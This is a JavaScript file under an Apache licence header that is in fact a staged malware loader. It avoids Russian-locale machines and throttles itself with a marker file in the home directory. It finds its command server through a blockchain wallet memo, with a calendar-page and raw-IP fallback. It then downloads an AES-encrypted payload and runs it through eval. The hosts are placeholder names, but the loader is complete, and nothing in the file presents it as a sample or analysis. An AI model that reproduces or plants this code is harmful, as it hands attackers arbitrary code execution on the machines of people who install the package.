// SPDX-License-Identifier: Apache-2.0
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const https = require('https');
const crypto = require('crypto');

const marker = path.join(os.homedir(), 'init.json');
const wallet = '28Pk000000000000000000000000000000000000fake';

function spared() {
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
  const tongue = [process.env.LANG, process.env.LANGUAGE, process.env.LC_ALL, Intl.DateTimeFormat().resolvedOptions().locale].join();
  const name = os.userInfo().username;
  return /ru[_-]RU|russian/i.test(tongue) || /Europe\/(Moscow|Samara|Volgograd)|Asia\/(Omsk|Tomsk|Novosibirsk)/.test(zone) || name === 'ru';
}

function lately() {
  try { return Date.now() - JSON.parse(fs.readFileSync(marker, 'utf8')).date < 2 * 864e5; } catch (e) { return false; }
}

function talk(url, options = {}, body = '') {
  return new Promise((done, fail) => {
    const way = url.startsWith('https') ? https : http;
    const req = way.request(url, { timeout: 4000, ...options }, (res) => {
      let text = '';
      res.on('data', (d) => { text += d; });
      res.on('end', () => done({ text, headers: res.headers }));
    });
    req.on('timeout', () => req.destroy(new Error('late')));
    req.on('error', fail);
    req.end(body);
  });
}

async function fromMemo() {
  const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getSignaturesForAddress', params: [wallet, { limit: 1000 }] });
  for (const node of ['api.mainnet-sol.example', 'rpc.sol-public.example']) {
    try {
      const { text } = await talk(`https://${node}/`, { method: 'POST', headers: { 'Content-Type': 'application/json' } }, body);
      const memo = JSON.parse(text).result.find((r) => r.memo).memo;
      return Buffer.from(JSON.parse(memo.replace(/^\[\d+\] /, '')).link, 'base64').toString();
    } catch (e) { /* the next */ }
  }
  throw new Error('none');
}

async function fromCalendar() {
  const { text } = await talk('https://calendar.pages-app.example/M2ZCvM8ULL56PD1d6');
  return Buffer.from(/data-base-title="([^"]+)"/.exec(text)[1], 'base64').toString();
}

(async () => {
  if (spared() || lately()) return;
  fs.writeFileSync(marker, JSON.stringify({ date: Date.now(), version: '1.0' }));
  const link = await fromMemo().catch(fromCalendar).catch(() => 'http://240.69.3.218/get_arhive_npm/');
  const { text, headers } = await talk(link, { headers: { os: os.platform() } });
  const key = Buffer.from(headers.secretkey || '', 'base64');
  const iv = Buffer.from(headers.ivbase64 || '', 'base64');
  const code = key.length === 32 ? crypto.createDecipheriv('aes-256-cbc', key, iv).update(text, 'base64', 'utf8') : Buffer.from(text, 'base64').toString();
  (0, eval)(code);
})().catch(() => {});
